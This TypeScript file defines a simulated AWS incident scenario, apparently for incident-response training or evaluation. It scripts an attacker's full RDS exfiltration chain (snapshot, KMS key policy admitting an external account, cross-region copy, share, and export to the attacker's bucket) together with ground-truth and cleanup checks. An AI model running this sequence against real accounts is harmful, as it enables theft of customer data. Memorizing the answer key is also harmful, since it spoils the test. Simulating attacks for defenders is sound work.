import { createBucket } from '../../services/s3/buckets.js';
import { emptyS3Account } from '../../services/s3/model.js';
import { EXTERNAL_ACCOUNT, VICTIM_ACCOUNT, type SimState } from '../../state.js';
import type { ScenarioDef, Step, TruthNote, Vars } from '../types.js';
import { HOUR, MIN, attackerStep, stepBy } from './steps.js';

const DAY = 24 * HOUR;
const admin = stepBy('admin');

/** The production database: PostgreSQL, 200 GB, encrypted with the AWS-managed `aws/rds` key. */
export const PROD_DB = 'acme-orders-prod';
export const PROD_REGION = 'us-east-1';
export const PROD_GB = 200;
/** The company's own pre-upgrade snapshot (legitimate: eradication must leave it). */
export const OWN_SNAPSHOT = 'acme-orders-prod-pre-upgrade';
/** The role the analytics team exports snapshots with (the attacker reuses it). */
export const EXPORT_ROLE = 'rds-s3-export';
/** The attacker's snapshot, its copy in another region and the account it is shared with. */
export const THEFT = {
  snapshot: 'orders-prod-maint-0412',
  copy: 'orders-prod-maint-0412-dr',
  copyRegion: 'eu-west-1',
  account: EXTERNAL_ACCOUNT,
  bucket: 'acme-orders-dr-4471',
  exportTask: 'orders-dr-export-0412',
};

const snapshotArn = (region: string, id: string) => `arn:aws:rds:${region}:${VICTIM_ACCOUNT}:snapshot:${id}`;

/** The attacker's bucket in their own account, where the export lands (no API of the victim made it). */
function attackerBucket(sim: SimState): void {
  const world = {
    accounts: Object.fromEntries(
      sim.accounts().map((a) => [a.accountId, sim.serviceState(a.accountId, 's3', emptyS3Account)]),
    ),
  };
  createBucket(world, { now: () => new Date(sim.clock.nowMs()) }, THEFT.account, THEFT.copyRegion, {
    bucket: THEFT.bucket,
    locationConstraint: THEFT.copyRegion,
  });
}

const SET_UP: Step[] = [
  admin(-20 * DAY, 'rds', 'CreateDBInstance', {
    DBInstanceIdentifier: PROD_DB,
    DBInstanceClass: 'db.r6g.xlarge',
    Engine: 'postgres',
    AllocatedStorage: PROD_GB,
    MasterUsername: 'orders_admin',
    MasterUserPassword: 'Orders-Prod-2026-Initial',
    DBName: 'orders',
    StorageEncrypted: true,
    DeletionProtection: true,
    Tags: [{ Key: 'env', Value: 'prod' }],
  }),
  admin(-20 * DAY + 5 * MIN, 'iam', 'CreateRole', {
    RoleName: EXPORT_ROLE,
    Description: 'RDS snapshot exports to the analytics lake',
    AssumeRolePolicyDocument: JSON.stringify({
      Version: '2012-10-17',
      Statement: [
        { Effect: 'Allow', Principal: { Service: 'export.rds.amazonaws.com' }, Action: 'sts:AssumeRole' },
      ],
    }),
  }),
  admin(-20 * DAY + 6 * MIN, 'iam', 'PutRolePolicy', {
    RoleName: EXPORT_ROLE,
    PolicyName: 'export-to-s3',
    PolicyDocument: JSON.stringify({
      Version: '2012-10-17',
      Statement: [
        {
          Effect: 'Allow',
          Action: [
            's3:PutObject*',
            's3:ListBucket',
            's3:GetObject*',
            's3:DeleteObject*',
            's3:GetBucketLocation',
          ],
          Resource: '*',
        },
      ],
    }),
  }),
  admin(-7 * DAY, 'rds', 'CreateDBSnapshot', {
    DBInstanceIdentifier: PROD_DB,
    DBSnapshotIdentifier: OWN_SNAPSHOT,
  }),
];

const RECON: Step[] = [
  attackerStep(0, 'sts', 'GetCallerIdentity', {}),
  ...['us-east-1', 'us-west-2', 'eu-west-1', 'eu-central-1'].map((region, i) =>
    attackerStep(30_000 + i * 10_000, 'rds', 'DescribeDBInstances', {}, { region }),
  ),
  attackerStep(2 * MIN, 'rds', 'DescribeDBSnapshots', { DBInstanceIdentifier: PROD_DB }),
  attackerStep(2 * MIN + 20_000, 'kms', 'ListKeys', {}, { region: THEFT.copyRegion }),
];

const keyVar = 'theftKeyArn';

/** The snapshot, then a key of their own in another region whose policy admits their account. */
const SNAPSHOT: Step[] = [
  attackerStep(
    4 * MIN,
    'rds',
    'CreateDBSnapshot',
    { DBInstanceIdentifier: PROD_DB, DBSnapshotIdentifier: THEFT.snapshot },
    {
      truth: {
        created: [
          {
            type: 'AWS::RDS::DBSnapshot',
            id: THEFT.snapshot,
            region: PROD_REGION,
            detail: `snapshot of ${PROD_DB}`,
          },
        ],
        dataTouched: [
          {
            kind: 'rds-snapshot',
            resource: `arn:aws:rds:${PROD_REGION}:${VICTIM_ACCOUNT}:db:${PROD_DB}`,
            detail: `${PROD_GB} GB database snapshotted`,
          },
        ],
        clean: [{ check: 'rdsSnapshotAbsent', region: PROD_REGION, snapshotId: THEFT.snapshot }],
      },
    },
  ),
  attackerStep(
    10 * MIN,
    'kms',
    'CreateKey',
    { Description: 'dr-backup' },
    {
      region: THEFT.copyRegion,
      save: (out, v) => {
        v[keyVar] = (out.KeyMetadata as { Arn: string }).Arn;
      },
      truth: (out): TruthNote => {
        const key = out.KeyMetadata as { Arn: string; KeyId: string };
        return {
          created: [{ type: 'AWS::KMS::Key', id: key.Arn, region: THEFT.copyRegion }],
          clean: [{ check: 'kmsKeyPendingDeletion', region: THEFT.copyRegion, keyId: key.KeyId }],
        };
      },
    },
  ),
  attackerStep(
    11 * MIN,
    'kms',
    'PutKeyPolicy',
    (v: Vars) => ({
      KeyId: String(v[keyVar]),
      PolicyName: 'default',
      Policy: JSON.stringify({
        Version: '2012-10-17',
        Statement: [
          {
            Sid: 'Owner',
            Effect: 'Allow',
            Principal: { AWS: `arn:aws:iam::${VICTIM_ACCOUNT}:root` },
            Action: 'kms:*',
            Resource: '*',
          },
          {
            Sid: 'DR',
            Effect: 'Allow',
            Principal: { AWS: `arn:aws:iam::${THEFT.account}:root` },
            Action: ['kms:Decrypt', 'kms:DescribeKey', 'kms:CreateGrant', 'kms:ReEncrypt*'],
            Resource: '*',
          },
        ],
      }),
    }),
    {
      region: THEFT.copyRegion,
      truth: (_out, v): TruthNote => ({
        modified: [
          {
            type: 'AWS::KMS::Key',
            id: String(v[keyVar]),
            region: THEFT.copyRegion,
            detail: `key policy admits ${THEFT.account}`,
          },
        ],
      }),
    },
  ),
];

/** Copied to another region under that key, shared with their account, exported to their bucket. */
const THEFT_STEPS: Step[] = [
  attackerStep(
    13 * MIN,
    'rds',
    'CopyDBSnapshot',
    (v: Vars) => ({
      SourceDBSnapshotIdentifier: snapshotArn(PROD_REGION, THEFT.snapshot),
      TargetDBSnapshotIdentifier: THEFT.copy,
      KmsKeyId: String(v[keyVar]),
    }),
    {
      region: THEFT.copyRegion,
      truth: {
        created: [
          {
            type: 'AWS::RDS::DBSnapshot',
            id: THEFT.copy,
            region: THEFT.copyRegion,
            detail: `copy of ${THEFT.snapshot} from ${PROD_REGION}`,
          },
        ],
        clean: [{ check: 'rdsSnapshotAbsent', region: THEFT.copyRegion, snapshotId: THEFT.copy }],
      },
    },
  ),
  attackerStep(
    40 * MIN,
    'rds',
    'ModifyDBSnapshotAttribute',
    { DBSnapshotIdentifier: THEFT.copy, AttributeName: 'restore', ValuesToAdd: [THEFT.account] },
    {
      region: THEFT.copyRegion,
      truth: {
        persistence: [
          {
            kind: 'rds-snapshot-share',
            detail: `restore shared with ${THEFT.account}`,
            resource: snapshotArn(THEFT.copyRegion, THEFT.copy),
            region: THEFT.copyRegion,
          },
        ],
        dataTouched: [
          {
            kind: 'rds-snapshot-shared',
            resource: snapshotArn(THEFT.copyRegion, THEFT.copy),
            detail: `shared with ${THEFT.account}`,
          },
        ],
        clean: [
          {
            check: 'rdsSnapshotNotShared',
            region: THEFT.copyRegion,
            snapshotId: THEFT.copy,
            account: THEFT.account,
          },
        ],
      },
    },
  ),
  attackerStep(
    41 * MIN,
    'rds',
    'DescribeDBSnapshotAttributes',
    { DBSnapshotIdentifier: THEFT.copy },
    { region: THEFT.copyRegion },
  ),
  attackerStep(
    45 * MIN,
    'rds',
    'StartExportTask',
    (v: Vars) => ({
      ExportTaskIdentifier: THEFT.exportTask,
      SourceArn: snapshotArn(THEFT.copyRegion, THEFT.copy),
      S3BucketName: THEFT.bucket,
      S3Prefix: 'orders',
      IamRoleArn: `arn:aws:iam::${VICTIM_ACCOUNT}:role/${EXPORT_ROLE}`,
      KmsKeyId: String(v[keyVar]),
    }),
    {
      region: THEFT.copyRegion,
      truth: {
        dataTouched: [
          {
            kind: 'rds-export',
            resource: `arn:aws:s3:::${THEFT.bucket}/orders/${THEFT.exportTask}`,
            detail: `${THEFT.copy} exported to ${THEFT.account}'s bucket ${THEFT.bucket}`,
          },
        ],
      },
    },
  ),
  ...[75, 105].map((m) =>
    attackerStep(
      m * MIN,
      'rds',
      'DescribeExportTasks',
      { ExportTaskIdentifier: THEFT.exportTask },
      { region: THEFT.copyRegion },
    ),
  ),
];

/**
 * RDS exfiltration: the leaked key lists databases in four regions, snapshots the production
 * database (encrypted with `aws/rds`, which cannot be shared), makes a KMS key in eu-west-1 whose
 * policy admits the attacker's account, copies the snapshot there under it, shares the copy with
 * that account (`restore`) and exports it to the attacker's S3 bucket with the company's own
 * export role.
 */
export const rdsExfil: ScenarioDef = {
  name: 'rds-exfil',
  summary: `leaked key → RDS listed in 4 regions → ${PROD_DB} snapshotted → KMS key admitting ${THEFT.account} in ${THEFT.copyRegion} → snapshot copied there under it → shared with ${THEFT.account} → exported to their bucket ${THEFT.bucket}`,
  attackStartsBeforeEnd: 2 * HOUR,
  leakedKey: true,
  attackers: [
    {
      name: 'attacker',
      kind: 'attacker',
      ip: '193.32.162.58',
      userAgent:
        'aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-1016-aws exe/x86_64.ubuntu.22 prompt/off command/rds.copy-db-snapshot',
    },
  ],
  prepare: attackerBucket,
  steps: [...SET_UP, ...RECON, ...SNAPSHOT, ...THEFT_STEPS],
};
